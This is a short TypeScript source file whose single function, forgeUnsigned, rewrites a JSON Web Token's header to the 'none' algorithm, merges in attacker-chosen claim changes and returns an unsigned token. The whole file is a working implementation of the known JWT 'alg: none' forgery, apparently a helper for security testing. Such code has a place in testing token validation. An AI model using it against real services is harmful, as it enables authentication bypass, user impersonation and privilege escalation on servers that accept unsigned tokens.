import { decodeJson, encodeJson } from '../jwt/json.ts'

export function forgeUnsigned(token: string, changes: Record<string, unknown>): string {
  const [first = '', second = ''] = token.split('.')
  const header = { ...decodeJson(first), alg: 'none' }
  const claims = decodeJson(second)
  const payload = { ...claims, ...changes }
  return encodeJson(header) + '.' + encodeJson(payload) + '.'
}
